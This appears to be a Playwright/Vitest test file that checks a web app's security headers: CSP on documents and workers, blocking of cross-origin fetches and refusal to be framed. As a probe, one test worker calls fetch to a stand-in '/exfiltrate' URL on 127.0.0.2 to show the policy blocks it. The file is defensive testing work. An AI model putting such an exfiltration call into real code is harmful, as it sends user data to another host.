// The policy as HTTP headers (issue #11, item 3), in real Chromium against `vite preview`: every document and
// worker script carries the CSP (with frame-ancestors 'none') and the other headers; a worker served with those
// headers cannot reach another origin; and the app refuses to render inside a frame. Before, only a <meta> CSP
// existed: workers ran with no policy at all and the app could be framed.
import { readdirSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openApp, type Session } from './support/browser';

let s: Session;
beforeEach(async () => {
	s = await openApp();
});
afterEach(async () => {
	await s.close();
});

const workerFiles = () => readdirSync('build/_app/immutable/workers').filter((f) => f.endsWith('.js'));

function expectPolicy(headers: Record<string, string>) {
	const csp = headers['content-security-policy'] ?? '';
	expect(csp).toContain("connect-src 'self'");
	expect(csp).toContain("default-src 'self'");
	expect(csp).toContain("frame-ancestors 'none'");
	expect(headers['x-content-type-options']).toBe('nosniff');
	expect(headers['referrer-policy']).toBe('no-referrer');
	expect(headers['permissions-policy']).toContain('camera=()');
}

/** Runs `code` as a module worker whose response carries exactly the headers `realUrl` is served with. */
async function runProbeWorker(realUrl: string, keepHeaders: boolean): Promise<unknown> {
	const { page, baseURL } = s;
	await page.route(`${baseURL}/__csp-probe.js`, async (route) => {
		const real = await route.fetch({ url: realUrl });
		const headers = keepHeaders ? real.headers() : { 'content-type': 'text/javascript' };
		await route.fulfill({
			status: 200,
			headers,
			body: `
				self.addEventListener('securitypolicyviolation', (e) =>
					postMessage({ violated: e.effectiveDirective, blocked: e.blockedURI }));
				fetch('http://127.0.0.2:9/exfiltrate').then(
					() => postMessage({ fetched: true }),
					() => setTimeout(() => postMessage({ failed: true }), 500));
			`
		});
	});
	await page.goto(`${baseURL}/privacy`);
	return page.evaluate(
		() =>
			new Promise((resolve) => {
				const w = new Worker('/__csp-probe.js', { type: 'module' });
				w.onmessage = (e) => resolve(e.data);
				w.onerror = (e) => resolve({ error: e.message });
			})
	);
}

describe('security headers', () => {
	it('sends the CSP and the other headers with every document and worker script', async () => {
		const { baseURL, context } = s;
		for (const path of [
			'/',
			'/overview',
			'/settings',
			...workerFiles().map((f) => `/_app/immutable/workers/${f}`)
		]) {
			const response = await context.request.get(`${baseURL}${path}`);
			expect(response.status(), path).toBe(200);
			expectPolicy(response.headers());
		}
	});

	it('stops a worker served with the app headers from fetching another origin, and reports the violation', async () => {
		const [worker] = workerFiles();
		const result = await runProbeWorker(`${s.baseURL}/_app/immutable/workers/${worker}`, true);
		expect(result).toEqual({ violated: 'connect-src', blocked: expect.stringContaining('127.0.0.2') });
	});

	it('(control) the same worker without the headers is not stopped by any policy', async () => {
		const [worker] = workerFiles();
		const result = await runProbeWorker(`${s.baseURL}/_app/immutable/workers/${worker}`, false);
		expect(result).toEqual({ failed: true });
	});

	it('refuses to render inside a frame', async () => {
		const { page, baseURL } = s;
		// A page of another origin (localhost is not 127.0.0.1) that frames the app.
		const other = baseURL.replace('127.0.0.1', 'localhost');
		await page.route(`${other}/framer`, (route) =>
			route.fulfill({
				status: 200,
				contentType: 'text/html',
				body: `<iframe id="app" src="${baseURL}/privacy" width="800" height="600"></iframe>`
			})
		);
		await page.goto(`${other}/framer`);
		await page.waitForTimeout(3000);
		const frame = page.frames().find((f) => f !== page.mainFrame());
		const rendered = frame
			? await frame
					.locator('main')
					.count()
					.catch(() => 0)
			: 0;
		expect(rendered).toBe(0);
		expect(s.requests.some((r) => r.url() === `${baseURL}/privacy`)).toBe(true);
	});
});
